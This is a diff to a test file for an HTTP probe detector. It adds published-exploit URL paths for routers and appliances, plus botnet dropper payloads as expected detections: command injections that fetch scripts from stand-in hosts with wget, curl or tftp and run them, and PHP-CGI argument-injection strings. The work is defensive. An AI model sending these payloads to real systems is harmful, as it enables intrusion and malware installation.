@@ -63,9 +63,21 @@ def test_every_cve_probe_uri_is_caught_in_one_request(uri: str) -> None:
         "/c99.php",
         "/uploads/shell.php?cmd=id",
         "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
+        # what honeypots see most: routers' and appliances' published exploits (GPON, FortiOS, Cisco
+        # ASA, OFBiz, Druid, MobileIron, Liferay, Webmin, vCenter, a camera's log page)
+        "/GponForm/diag_Form?images/",
+        "/api/v2/cmdb/system/admin/admin",
+        "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua",
+        "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
+        "/druid/indexer/v1/sampler?for=connect",
+        "/mifs/.;/services/LogService",
+        "/api/jsonws/invoke",
+        "/password_change.cgi",
+        "/ui/vropspluginui/rest/services/uploadova",
+        "/cgi-bin/ViewLog.asp",
     ],
 )
-def test_one_web_shell_request_is_a_probe(path: str) -> None:
+def test_one_request_for_a_web_shell_or_a_published_exploit_path_is_a_probe(path: str) -> None:
     assert "D1-exploit-probe" in rules(one(path=path))
 
 
@@ -145,6 +157,13 @@ SPELLINGS = [
     "/v1/x?__proto__[admin]=1",
     "/v1/x?constructor[prototype][admin]=1",
     "/v1/login?username=admin&password[$ne]=x",
+    # botnets' droppers: a download run by the shell, the step into /tmp; PHP-CGI's argument injection
+    "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.4/x.sh;sh+x.sh",
+    "/v1/x?cmd=" + quote("$(curl http://dl.example.net/a|sh)"),
+    "/v1/x?cmd=" + quote(";wget http://192.0.2.4/m -O /tmp/m"),
+    "/v1/x?host=" + quote("x`tftp -g 192.0.2.4`"),
+    "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
+    "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input",
 ]
 
 
@@ -177,6 +196,11 @@ HONEST = [
     "/v1/search?q=" + quote("how to use __class__ in python"),
     "/v1/articles?filters[title][$ne]=draft&filters[price][$gt]=10",
     "/v1/search?q=" + quote("c:\\users\\me\\docs"),
+    # shell commands as a docs site's readers search for them, with no separator before them
+    "/v1/search?q=" + quote("curl https://example.com/install.sh | sh"),
+    "/v1/search?q=" + quote("wget 10.0.0.5 timeout"),
+    "/v1/files?name=" + quote("cd tmp"),
+    "/v1/settings?php_flags=" + quote("display_errors"),
 ]
 
 
